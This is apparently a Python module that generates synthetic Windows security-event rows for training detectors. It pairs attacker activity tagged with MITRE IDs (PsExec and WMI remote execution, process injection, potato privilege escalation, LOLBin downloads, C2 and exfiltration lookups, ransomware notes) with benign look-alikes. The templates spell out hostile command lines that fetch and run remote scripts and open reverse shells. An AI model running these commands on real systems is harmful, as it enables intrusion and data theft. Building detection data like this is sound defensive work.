"""Events of lateral movement, execution, injection and what follows, and what looks like them."""

from __future__ import annotations

from training.generators.attack_rows import parse_events

LATERAL_EVENTS = parse_events(
    r"""
# Shares and pipes
share-psexec share +T1021.002: IPC$ ;; «PSEXESVC¦PSEXESVC-‹name›-‹pid›-«stdin¦stdout¦stderr»¦RemCom_communicaton¦RemCom_stdin‹n›¦csexecsvc¦paexec-‹n›-‹name›.exe»
share-svcctl share +T1021.002: IPC$ ;; svcctl
share-atsvc share +T1053.005: IPC$ ;; atsvc
share-exe-drop share +T1021.002: «ADMIN$¦C$» ;; «‹letters8›.exe¦Windows\‹letters8›.exe¦Temp\‹name›.exe¦PSEXESVC.EXE¦PAExec-‹n›-‹name›.exe¦‹name›.dll¦Windows\Temp\‹name›.bat»
share-output share +T1021.002: «ADMIN$¦C$» ;; «__output¦__‹pid›‹pid›.‹pid›‹n›¦Temp\‹letters8›.tmp¦Windows\Temp\__output_‹name›¦windows\temp\‹letters8›.txt»
share-startup share +T1547.001: C$ ;; «Users\‹user›\AppData\Roaming¦ProgramData»\Microsoft\Windows\Start Menu\Programs\Startup\‹name›.«exe¦bat¦lnk¦vbs»
near-share-pipes share: IPC$ ;; «srvsvc¦wkssvc¦spoolss¦netlogon¦lsarpc¦eventlog¦W32TIME_ALT¦epmapper¦PIPE_EVENTROOT\CIMV2SCM EVENT PROVIDER»
near-share-admin share: «ADMIN$¦C$» ;; «ccmsetup\ccmsetup.cab¦Temp\‹Word›Agent\‹Word›.msi¦Windows\Logs\CBS\CBS.log¦Program Files\‹Word›\‹name›.log¦System32\spool\drivers\x64\3\‹name›.gpd¦Users\‹user›\Documents\‹name›.docx»
pipe-psexec pipe +T1569.002: «C:\Windows\«PSEXESVC¦csexecsvc¦RemComSvc¦winexesvc¦PAExec-‹pid›-‹name›».exe¦System» ;; \«PSEXESVC¦PSEXESVC-‹name›-‹pid›-«stdin¦stdout¦stderr»¦RemCom_communicaton¦RemCom_stderr‹name›‹pid›‹n›¦csexecsvc¦csexecsvcstdout¦PAExecErr‹name›‹pid›¦ahexec»
pipe-beacon pipe +T1055: «‹own›¦‹s32›\«rundll32¦dllhost¦gpupdate¦svchost¦werfault».exe¦‹ps›» ;; \«MSSE-‹pid›-server¦msagent_«ab¦f3¦7d»¦postex_«4a3c¦91bd¦0fe2»¦postex_ssh_«77ab¦31fe»¦status_«3e¦a9»¦mojo.5688.8052.«183894939787088877¦35780273329370473»«a1¦7f»¦wkssvc«81¦a1»¦ntsvcs«81¦f4»¦DserNamePipe«81¦ac»¦SearchTextHarvester«81¦4a»¦scerpc_«81¦af»¦win\msrpc_«81¦ff»»
pipe-getsystem pipe +T1134.001: «‹cmd›¦‹own›¦‹ps›¦System» ;; \«‹name›¦‹letters8›»\pipe\«spoolss¦srvsvc»
pipe-potato pipe +T1134.001: ‹own› ;; \«coerced\pipe\spoolss¦roguepotato\pipe\epmapper¦petit\pipe\srvsvc¦EfsPotato\pipe\srvsvc¦GodPotato\pipe\epmapper¦sweetpotato\pipe\spoolss¦‹guid›\pipe\spoolss»
near-pipes pipe: «‹browser›¦‹legit›¦‹own›¦‹ps›» ;; \«chrome.sync.‹name›¦mojo.‹pid›.‹pid›.‹pid›‹pid›‹pid›¦PSHost.13‹pid›‹pid›.‹pid›.DefaultAppDomain.powershell¦crashpad_‹pid›_‹name›¦LOCAL\mojo.‹pid›¦Winsock2\CatalogChangeListener-‹n›-0¦InitShutdown¦lsass¦wkssvc¦‹Word›Pipe¦dotnet-diagnostic-‹pid›»
# Services started, remote children
psexesvc-7045 service +T1569.002: «PSEXESVC¦PsExec Service¦csexecsvc¦winexesvc¦PAExec-‹n›-‹name›¦RemComSvc» ;; «%SystemRoot%\«PSEXESVC¦csexecsvc¦winexesvc¦RemComSvc».EXE¦C:\Windows\PSEXESVC.exe» ;; demand start
psexesvc-state state +T1569.002: «PSEXESVC¦PsExec Service¦PsExec» ;; «running¦stopped»
psexesvc-file file +T1569.002: System ;; C:\Windows\«PSEXESVC.exe¦PSEXEC-‹name›-‹hash›.key¦PAExec-‹n›-‹name›.exe¦RemComSvc.exe¦winexesvc.exe¦csexecsvc.exe»
psexesvc-child process +T1569.002: @ ;; «"cmd"¦cmd.exe¦"cmd.exe"¦"powershell.exe"¦"whoami"¦powershell -enc ‹enc›» ;; C:\Windows\«PSEXESVC¦csexecsvc¦PAExec-‹n›-‹name›¦RemComSvc».exe ;; C:\Windows\PSEXESVC.exe
psexec-eula value +T1569.002: «‹ownplace›\PsExec«¦64».exe¦‹ownplace›\‹name›.exe» ;; ‹hku›\Software\Sysinternals\PsExec\EulaAccepted ;; DWORD (0x00000001)
near-eula value: ‹ownplace›\«procexp64¦Autoruns64¦Procmon64¦Tcpview64¦du64¦handle64¦procdump¦procdump64».exe ;; ‹hku›\Software\Sysinternals\«ProcDump¦Process Explorer¦AutoRuns¦Process Monitor¦TCPView¦Du¦Handle»\EulaAccepted ;; DWORD (0x00000001)
service-child-pipe process +T1134.001: @ ;; «cmd.exe¦%COMSPEC%¦C:\Windows\system32\cmd.exe» /c echo «‹name›¦‹letters8›» «>¦^>» \\.\pipe\«‹name›¦‹letters8›» ;; ‹s32›\services.exe ;; C:\Windows\system32\services.exe
service-child-shell process +T1569.002: @ ;; «C:\Windows\system32\cmd.exe /Q /c echo whoami ^> \\127.0.0.1\C$\__output 2^>^&1 > C:\Windows\TEMP\execute.bat & C:\Windows\system32\cmd.exe /Q /c C:\Windows\TEMP\execute.bat & del C:\Windows\TEMP\execute.bat¦%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc ‹enc›» ;; ‹s32›\services.exe ;; C:\Windows\system32\services.exe
wmi-child process +T1047: @ ;; «cmd.exe /Q /c «whoami¦cd \¦dir¦ipconfig /all¦net user» 1> \\127.0.0.1\ADMIN$\__17‹pid›‹pid›.‹pid› 2>&1¦cmd.exe /c ‹own› > C:\Windows\Temp\‹name›.txt¦powershell.exe -nop -w hidden -enc ‹enc›¦rundll32.exe ‹ownplace›\‹name›.dll,‹Word›» ;; ‹s32›\wbem\WmiPrvSE.exe ;; C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding
wmi-child-binary process +T1047: @ ;; "‹own›" ;; ‹s32›\wbem\WmiPrvSE.exe ;; C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding
near-wmi-child process: @ ;; «"C:\Program Files\‹Word›\‹name›.exe" --inventory¦C:\Windows\system32\WerFault.exe -u -p ‹pid› -s ‹pid›¦"C:\Windows\CCM\CcmExec.exe"¦C:\Windows\system32\msiexec.exe /i ‹guid› /qn¦C:\Windows\System32\wbem\unsecapp.exe -Embedding» ;; ‹s32›\wbem\WmiPrvSE.exe ;; C:\Windows\system32\wbem\wmiprvse.exe -Embedding
wmi-5857-odd log +T1047: Microsoft-Windows-WMI-Activity|Microsoft-Windows-WMI-Activity/Operational|5858 ;; Id=‹guid› ;; ClientMachine=‹server› ;; User=‹domain›\‹user› ;; ClientProcessId=‹pid› ;; Component=Unknown ;; Operation=Start IWbemServices::ExecMethod - root\cimv2 : Win32_Process::Create ;; ResultCode=0x80041010
winrm-child process +T1021.006: @ ;; «"C:\Windows\system32\cmd.exe" /C «whoami¦ipconfig¦net user¦dir»¦"C:\Windows\system32\whoami.exe"¦powershell.exe -enc ‹enc›¦"C:\Windows\system32\HOSTNAME.EXE"¦cmd.exe /c ‹own›» ;; «‹s32›\wsmprovhost.exe¦‹s32›\winrshost.exe» ;; «C:\Windows\system32\wsmprovhost.exe -Embedding¦C:\Windows\system32\WinrsHost.exe -Embedding»
winrm-91 log +T1021.006: Microsoft-Windows-WinRM|Microsoft-Windows-WinRM/Operational|91 ;; resourceUri=http://schemas.microsoft.com/«powershell/Microsoft.PowerShell¦wbem/wsman/1/windows/shell/cmd» ;; authFailureMessage= ;; clientIP=‹ip›
winrm-6 log +T1021.006: Microsoft-Windows-WinRM|Microsoft-Windows-WinRM/Operational|6 ;; connection=«‹server›¦‹ip›»/wsman?PSVersion=5.1.«17763¦19041».‹pid›
near-winrm log: Microsoft-Windows-WinRM|Microsoft-Windows-WinRM/Operational|«208¦209¦10149¦161¦162» ;; operationName=«Service¦Get¦Enumerate» ;; errorCode=«0¦2150858770»
winrm-port connected +T1021.006: «‹own›¦‹s32›\winrs.exe» ;; «5985¦5986» ;; «‹host›.‹fqdn›¦-»
rdp-tunnel connected +T1572: «‹ownplace›\«plink¦ngrok¦chisel¦PLINK».exe» ;; 3389 ;; «-¦‹server›»
rdp-svchost-loop connected +T1021.001: «‹own›¦‹ps›» ;; 3389 ;; «‹host›.‹fqdn›¦-»
near-rdp connected: ‹s32›\«mstsc¦svchost».exe ;; 3389 ;; «‹host›.‹fqdn›¦-»
rdp-tscon process +T1563.002: ‹s32›\tscon.exe ;; «tscon.exe¦tscon» ‹n› /dest:«rdp-tcp#‹n›¦console» ;; «‹cmd›¦‹s32›\services.exe»
rdp-loopback-1149 security +T1021.001: 4624 ;; TargetUserName=‹user› ;; TargetDomainName=‹domain› ;; LogonType=10 ;; LogonProcessName=User32 ;; AuthenticationPackageName=Negotiate ;; WorkstationName=‹server› ;; ProcessName=‹s32›\«svchost¦winlogon».exe ;; IpAddress=«127.0.0.1¦::1»
dcom-mmc-child process +T1021.003: @ ;; «"C:\Windows\System32\cmd.exe" /c «whoami¦‹own›¦powershell -enc ‹enc›»¦powershell.exe -nop -w hidden -enc ‹enc›¦cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__17‹pid› 2>&1» ;; ‹s32›\mmc.exe ;; C:\Windows\system32\mmc.exe -Embedding
dcom-explorer-child process +T1021.003: @ ;; cmd.exe /Q /c «cd \¦whoami¦dir¦ipconfig /all¦net user» 1> \\127.0.0.1\«ADMIN$¦C$»\__17‹pid›.‹pid› 2>&1 ;; C:\Windows\explorer.exe ;; C:\Windows\explorer.exe /factory,{75DFF2B7-6936-4C06-A8BB-676A7B00B24B} -Embedding
dcom-office-child process +T1021.003: @ ;; «cmd.exe /c ‹own›¦powershell.exe -nop -enc ‹enc›¦rundll32.exe ‹ownplace›\‹name›.dll,‹Word›» ;; C:\Program Files\Microsoft Office\Office16\EXCEL.EXE ;; "C:\Program Files\Microsoft Office\Office16\EXCEL.EXE" /automation -Embedding
near-mmc-embedding process: ‹s32›\mmc.exe ;; C:\Windows\system32\mmc.exe «-Embedding¦"C:\Windows\system32\«dsa¦gpmc¦devmgmt¦diskmgmt».msc"» ;; «‹s32›\svchost.exe¦C:\Windows\explorer.exe»
near-psexec-other process: @ ;; «‹program› -service¦C:\Windows\system32\svchost.exe -k netsvcs¦C:\Windows\system32\msiexec.exe /V¦"C:\Program Files\‹Word›\‹name›.exe" /svc» ;; ‹s32›\services.exe
# Injection
thread-rundll thread +T1055: «‹sys›\rundll32.exe¦‹ps›¦‹own›¦‹office›» ;; «‹sys›\«rundll32¦notepad¦svchost¦dllhost¦werfault¦gpupdate¦regsvr32».exe¦C:\Windows\explorer.exe¦C:\Program Files\Internet Explorer\iexplore.exe» ;; - ;; -
thread-loadlibrary thread +T1055.001: «‹own›¦‹ps›¦‹s32›\mavinject.exe» ;; «‹sys›\«notepad¦svchost¦spoolsv¦winlogon».exe¦C:\Windows\explorer.exe¦‹browser›» ;; C:\Windows\System32\«KERNEL32.DLL¦kernel32.dll¦KERNELBASE.dll» ;; LoadLibrary«A¦W»
thread-explorer thread +T1055: «‹own›¦C:\Users\‹user›\AppData\Roaming\‹Word›\‹name›.exe» ;; «C:\Windows\explorer.exe¦‹s32›\svchost.exe» ;; «-¦UNKNOWN» ;; -
near-thread-system thread: «‹s32›\«csrss¦wininit¦winlogon¦services¦wbem\WmiPrvSE¦WerFault¦Taskmgr».exe¦C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2‹n›.7-0\MsMpEng.exe¦‹browser›» ;; «‹s32›\svchost.exe¦‹browser›¦‹legit›¦‹ps›» ;; C:\Windows\System32\«ntdll.dll¦KERNELBASE.dll¦KERNEL32.DLL¦winsrv.DLL» ;; «-¦CtrlRoutine¦DbgUiRemoteBreakin¦EtwpNotificationThread»
hollow-access access +T1055.012: «‹own›¦‹ps›» ;; ‹sys›\«RegSvcs¦InstallUtil¦MSBuild¦cvtres¦RegAsm».exe ;; «0x800¦0x1f0fff¦0x1fffff» ;; «C:\Windows\System32\KERNELBASE.dll¦C:\Windows\SYSTEM32\wow64.dll»|UNKNOWN(‹hex›)
inject-access access +T1055: «‹own›¦‹ps›¦‹sys›\rundll32.exe¦‹office›» ;; «C:\Windows\explorer.exe¦‹sys›\«notepad¦svchost¦spoolsv¦dllhost».exe» ;; «0x1fffff¦0x147a¦0x143a¦0x2a¦0x1f0fff¦0x43a¦0x47a» ;; C:\Windows\System32\KERNELBASE.dll|UNKNOWN(‹hex›)
office-inject-child access +T1055: ‹office› ;; ‹sys›\«rundll32¦notepad¦svchost¦WerFault».exe ;; 0x1fffff ;; C:\Windows\System32\KERNELBASE.dll|C:\Program Files\Common Files\Microsoft Shared\VBA\VBA7.1\VBE7.DLL|UNKNOWN(‹hex›)
near-access-explorer access: «C:\Windows\explorer.exe¦‹s32›\«svchost¦RuntimeBroker¦Taskmgr¦csrss¦sihost».exe¦‹browser›¦‹legit›» ;; «‹s32›\«notepad¦svchost¦spoolsv».exe¦‹browser›¦‹own›» ;; «0x1000¦0x1400¦0x40¦0x1410¦0x1fffff» ;; C:\Windows\System32\KERNELBASE.dll|«C:\Windows\System32\shell32.dll¦C:\Windows\System32\windows.storage.dll¦C:\Windows\System32\sysmain.dll¦C:\Program Files\‹Word›\‹name›.dll»
tamper-25 sysmon +T1055.012: 25 ;; Image=«‹own›¦‹sys›\«svchost¦notepad¦RegAsm¦dllhost¦werfault».exe» ;; Type=«Image is replaced¦Image is locked for access»
svchost-odd-parent process +T1036.005: @ ;; «C:\Windows\System32\svchost.exe¦"C:\Windows\SysWOW64\svchost.exe"¦‹ownplace›\svchost.exe¦‹ownplace›\«lsass¦csrss¦services¦taskhostw¦RuntimeBroker».exe» ;; «‹own›¦‹office›¦‹ps›»
# Tokens
token-parent-spoof process +T1134.004: ‹cmd› ;; cmd.exe ;; ‹lsass› ;; C:\Windows\system32\lsass.exe
token-winlogon-access access +T1134.001: «‹own›¦‹ps›» ;; ‹s32›\«winlogon¦wininit¦spoolsv».exe ;; «0x1f3fff¦0x1478¦0x1fffff» ;; C:\Windows\System32\KERNELBASE.dll|UNKNOWN(‹hex›)
token-right-4703 security +T1134: 4703 ;; TargetUserName=‹user› ;; EnabledPrivilegeList=SeDebugPrivilege ;; DisabledPrivilegeList=- ;; ProcessName=‹own› ;; ProcessId=0x‹pid›
near-right-4703 security: 4703 ;; TargetUserName=‹host›$ ;; EnabledPrivilegeList=«SeAssignPrimaryTokenPrivilege SeIncreaseQuotaPrivilege SeSecurityPrivilege SeTakeOwnershipPrivilege SeLoadDriverPrivilege SeSystemtimePrivilege SeBackupPrivilege SeRestorePrivilege¦SeShutdownPrivilege» ;; DisabledPrivilegeList=- ;; ProcessName=«‹s32›\«svchost¦msiexec¦TiWorker».exe¦C:\Windows\CCM\CcmExec.exe» ;; ProcessId=0x‹pid›
potato-process process +T1134.001: @ ;; ‹ownplace›\«JuicyPotato¦JuicyPotatoNG¦PrintSpoofer¦PrintSpoofer64¦RoguePotato¦SweetPotato¦GodPotato-NET4¦EfsPotato».exe «-i -c cmd¦-t * -p cmd.exe -l 1337¦-c "cmd /c whoami"¦-cmd "cmd /c whoami"¦-r ‹ip› -e cmd.exe»
# Execution by documents and scripts
office-shell process +T1204.002: @ ;; «cmd.exe /c ‹own›¦powershell -nop -w hidden -enc ‹enc›¦wscript.exe ‹ownplace›\‹name›.vbs¦mshta.exe http://‹ip›/‹name›.hta¦rundll32.exe ‹ownplace›\‹name›.dll,‹Word›¦regsvr32.exe /s ‹ownplace›\‹name›.ocx¦‹own›¦cmd /c certutil -urlcache -f http://‹ip›/‹name›.exe ‹own› && ‹own›» ;; ‹office› ;; "C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\‹user›\Downloads\‹name›.docm" /o ""
near-office-child process: @ ;; «C:\Windows\splwow64.exe 12288¦"C:\Program Files\Microsoft Office\root\Office16\ai.exe" ‹pid›¦‹browser›¦C:\Windows\system32\WerFault.exe -u -p ‹pid› -s ‹pid›¦"C:\Program Files\Common Files\Microsoft Shared\OFFICE16\MSOXMLED.EXE" /verb open "C:\Users\‹user›\Downloads\‹name›.xml"¦"C:\Program Files\Adobe\Acrobat DC\Acrobat\Acrobat.exe" "C:\Users\‹user›\Downloads\‹name›.pdf"» ;; ‹office›
office-script-file file +T1204.002: ‹office› ;; «C:\Users\‹user›\AppData\«Local\Temp¦Roaming»¦C:\Users\Public¦C:\ProgramData»\‹name›.«exe¦vbs¦hta¦js¦ps1¦bat¦dll¦wsf¦scr»
near-office-doc file: ‹office› ;; C:\Users\‹user›\«Documents¦Downloads¦Desktop»\«‹name›.docx¦~$‹name›.xlsx¦‹name›.pptx¦‹name›.tmp»
zip-script process +T1204.002: @ ;; "C:\Windows\System32\«WScript¦CScript».exe" "C:\Users\‹user›\AppData\Local\Temp\«Temp1_‹name›.zip¦7zO‹name›¦Rar$DIa‹pid›.‹pid›»\‹name›.«js¦vbs¦jse¦wsf»" ;; C:\Windows\explorer.exe ;; C:\Windows\Explorer.EXE
double-extension process +T1036.007: @ ;; "‹ownplace›\‹name›.«pdf¦docx¦xlsx¦jpg¦txt».«exe¦scr¦com»" ;; C:\Windows\explorer.exe
attachment-file file +T1566.001: C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE ;; C:\Users\‹user›\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\‹letters8›\‹name›.«docm¦xlsm¦js¦vbs¦hta¦iso¦exe¦lnk¦one»
near-attachment file: C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE ;; C:\Users\‹user›\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\‹letters8›\‹name›.«docx¦xlsx¦pdf¦png¦msg¦ics»
script-file-hta process +T1218.005: @ ;; «"C:\Windows\SysWOW64\mshta.exe" "C:\Users\‹user›\Downloads\‹name›.hta" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}¦mshta.exe http«s¦»://‹ip›«:8080¦»/‹name›«.hta¦»¦mshta.exe javascript:a=GetObject("script:http://‹ip›/‹name›.sct").Exec();close();¦mshta vbscript:CreateObject("Wscript.Shell").Run("powershell -enc ‹enc›",0)(window.close)»
mshta-child process +T1218.005: @ ;; «powershell.exe -nop -w hidden -enc ‹enc›¦cmd.exe /c ‹own›¦"C:\Windows\System32\cmd.exe" /c start ‹own›» ;; ‹sys›\mshta.exe ;; mshta.exe http://‹ip›/‹name›.hta
wscript-child process +T1059.005: @ ;; «powershell.exe -nop -w hidden -enc ‹enc›¦cmd.exe /c ‹own›¦‹own›» ;; ‹sys›\«wscript¦cscript».exe ;; "C:\Windows\System32\WScript.exe" "‹ownplace›\‹name›.vb«s¦e»"
wscript-js-child process +T1059.007: @ ;; «powershell.exe -nop -w hidden -enc ‹enc›¦cmd.exe /c ‹own›¦rundll32.exe ‹ownplace›\‹name›.dll,‹Word›» ;; ‹sys›\«wscript¦cscript».exe ;; "C:\Windows\System32\WScript.exe" "‹ownplace›\‹name›.js«e¦»"
near-wscript-child process: @ ;; «cmd.exe /c net use H: \\‹server›\home¦cmd.exe /c "C:\Program Files\‹Word›\update.cmd"¦reg.exe add HKCU\Software\‹Word› /v Map /d 1 /f¦"C:\Program Files\‹Word›\‹name›.exe" /silent» ;; ‹sys›\«wscript¦cscript».exe ;; "C:\Windows\System32\«WScript¦cscript».exe" «//nologo ¦»"\\‹fqdn›\SYSVOL\‹fqdn›\scripts\«logon¦‹name›».vbs"
unmanaged-ps-load load +T1059.001: «‹own›¦‹sys›\«rundll32¦notepad¦regsvr32¦InstallUtil¦cscript¦msbuild».exe¦‹office›» ;; C:\Windows\«assembly\NativeImages_v4.0.30319_64\System.Manaa57fc8cc#\‹hash›\System.Management.Automation.ni.dll¦Microsoft.NET\assembly\GAC_MSIL\System.Management.Automation\v4.0_3.0.0.0__31bf3856ad364e35\System.Management.Automation.dll»
near-ps-load load: «‹ps›¦C:\Windows\System32\«ServerManager¦wsmprovhost¦sdiagnhost¦mmc».exe¦C:\Program Files\‹Word›\‹name›.exe» ;; C:\Windows\assembly\NativeImages_v4.0.30319_64\System.Manaa57fc8cc#\‹hash›\System.Management.Automation.ni.dll
ps-downgrade log +T1689: PowerShell|Windows PowerShell|400 ;; param1=Available ;; param2=None ;; param3=NewEngineState=Available↵PreviousEngineState=None↵SequenceNumber=‹n›↵HostName=ConsoleHost↵HostVersion=2.0↵HostId=‹guid›↵HostApplication=powershell.exe -version 2 -nop -ep bypass -c ‹own›↵EngineVersion=2.0
ps-400-encoded log +T1059.001: PowerShell|Windows PowerShell|«400¦600» ;; param1=Available ;; param2=None ;; param3=NewEngineState=Available↵PreviousEngineState=None↵SequenceNumber=‹n›↵HostName=ConsoleHost↵HostVersion=5.1.19041.‹pid›↵HostId=‹guid›↵HostApplication=powershell«.exe¦» -«nop -w hidden -enc¦NoP -sta -NonI -W Hidden -Enc¦e» ‹enc›↵EngineVersion=5.1.19041.‹pid›↵RunspaceId=‹guid›
near-ps-400 log: PowerShell|Windows PowerShell|«400¦600¦403» ;; param1=Available ;; param2=None ;; param3=NewEngineState=Available↵PreviousEngineState=None↵SequenceNumber=‹n›↵HostName=ConsoleHost↵HostVersion=5.1.19041.‹pid›↵HostId=‹guid›↵HostApplication=«powershell.exe¦C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -NoProfile -File C:\Program Files\‹Word›\‹name›.ps1¦powershell.exe -NonInteractive -Command Get-Service»↵EngineVersion=5.1.19041.‹pid›↵RunspaceId=‹guid›
# Transfer and command and control
lolbin-net connected +T1105: ‹sys›\«certutil¦certreq¦bitsadmin¦expand¦esentutl¦desktopimgdownldr¦finger».exe ;; «80¦443¦8080» ;; «-¦‹name›.«top¦xyz¦com»¦raw.githubusercontent.com»
rundll-net connected +T1218.011: ‹sys›\rundll32.exe ;; «80¦443¦4444¦8443» ;; «-¦‹name›.«top¦xyz¦com»»
regsvr-net connected +T1218.010: ‹sys›\regsvr32.exe ;; «80¦443» ;; «-¦‹name›.com¦raw.githubusercontent.com»
mshta-net connected +T1218.005: ‹sys›\mshta.exe ;; «80¦443¦8080» ;; «-¦‹name›.com¦pastebin.com»
installutil-net connected +T1127.001: C:\Windows\Microsoft.NET\Framework«¦64»\v4.0.30319\MSBuild.exe ;; «80¦443¦4444» ;; -
odd-port connected +T1571: «‹own›¦‹ps›¦‹sys›\«notepad¦dllhost».exe» ;; «4444¦1337¦31337¦4443» ;; -
tunnel-service-dns asked +T1572: «‹own›¦‹ownplace›\«ngrok¦cloudflared¦chisel».exe» ;; «tunnel.us.ngrok.com¦‹n›.tcp.ngrok.io¦‹name›.trycloudflare.com¦connect.ngrok-agent.com¦localtunnel.me»
remote-tool-dns asked +T1219.002: «‹own›¦C:\Program Files (x86)\«AnyDesk\AnyDesk¦ScreenConnect Client (‹name›)\ScreenConnect.ClientService».exe» ;; «boot.net.anydesk.com¦relay-‹name›.net.anydesk.com¦instance-‹name›-relay.screenconnect.com¦api.playanext.com¦router‹n›.teamviewer.com»
exfil-dns asked +T1567.002: «‹own›¦‹ps›¦‹ownplace›\«rclone¦megacmd».exe» ;; «g.api.mega.co.nz¦gfs‹n›n‹n›.userstorage.mega.co.nz¦api.anonfiles.com¦transfer.sh¦content.dropboxapi.com»
paste-dns asked +T1102: «‹own›¦‹ps›¦‹sys›\«rundll32¦mshta¦wscript¦regsvr32».exe» ;; «pastebin.com¦paste.ee¦rentry.co¦ghostbin.com¦cdn.discordapp.com»
dns-tunnel asked +T1071.004: «‹own›¦‹ps›¦‹sys›\nslookup.exe» ;; ‹hash›‹hash›.‹name›.«com¦xyz»
near-dns-script asked: «‹ps›¦‹own›» ;; «‹host›.‹fqdn›¦psgallery.azureedge.net¦www.powershellgallery.com¦go.microsoft.com¦login.microsoftonline.com¦graph.microsoft.com¦‹fqdn›»
near-dns asked: «‹browser›¦‹s32›\svchost.exe¦C:\Program Files\‹Word›\‹name›.exe» ;; «‹host›.‹fqdn›¦www.microsoft.com¦settings-win.data.microsoft.com¦pastebin.com¦discord.com¦github.com¦www.dropbox.com¦_ldap._tcp.dc._msdcs.‹fqdn›¦psgallery.azureedge.net»
near-net connected: «‹browser›¦‹s32›\svchost.exe¦C:\Program Files\‹Word›\‹name›.exe¦C:\Windows\System32\«MpCmdRun¦backgroundTaskHost».exe» ;; «80¦443¦8080¦53¦8443» ;; «-¦‹host›.‹fqdn›¦www.bing.com»
near-net-port connected: C:\Program Files\‹Word›\‹name›.exe ;; «8888¦9100¦5432¦1433¦27017» ;; ‹host›.‹fqdn›
download-file-motw stream +T1105: «‹ps›¦‹sys›\certutil.exe¦‹sys›\bitsadmin.exe» ;; ‹ownplace›\‹name›.«exe¦ps1¦dll¦hta»:Zone.Identifier ;; [ZoneTransfer]  ZoneId=3  HostUrl=http://‹ip›/‹name›.exe
near-motw stream: ‹browser› ;; C:\Users\‹user›\Downloads\‹name›.«exe¦zip¦pdf¦msi»:Zone.Identifier ;; [ZoneTransfer]  ZoneId=3  ReferrerUrl=https://‹fqdn›/  HostUrl=https://‹fqdn›/‹name›.zip
# Impact
ransom-note file +T1486: «‹own›¦‹ps›¦‹sys›\rundll32.exe» ;; «C:\¦C:\Users\‹user›\Desktop\¦C:\Users\‹user›\Documents\¦‹dir›\»«README_TO_DECRYPT.txt¦HOW_TO_DECRYPT.html¦RECOVER-FILES.txt¦@Please_Read_Me@.txt¦RyukReadMe.txt¦DECRYPT_INSTRUCTIONS.txt¦‹name›-readme.txt»
ransom-file file +T1486: «‹own›¦‹ps›» ;; C:\Users\‹user›\«Documents¦Desktop¦Pictures»\‹name›.«docx¦xlsx¦pdf¦jpg».«locked¦encrypted¦crypt¦WNCRY¦lockbit¦ryk¦akira»
near-readme file: «‹own›¦‹legit›¦‹ps›» ;; «‹dir›¦C:\Program Files\‹Word›»\«README.txt¦readme.html¦INSTALL.txt¦LICENSE.txt¦HOWTO.md¦RELEASE_NOTES.txt»
near-crypt-file file: «C:\Program Files\‹Word›\‹name›.exe¦C:\Program Files\7-Zip\7zG.exe» ;; C:\Users\‹user›\Documents\‹name›.«docx.gpg¦zip¦kdbx¦pfx¦xlsx.bak¦aes»
near-process-plain process: @ ;; «notepad.exe ‹ownplace›\‹name›.txt¦calc.exe¦mspaint.exe¦ping ‹server›¦"C:\Program Files\‹Word›\‹name›.exe"¦cmd.exe /c ver¦findstr error ‹file›» ;; «‹own›¦‹ps›¦‹cmd›»
"""
)
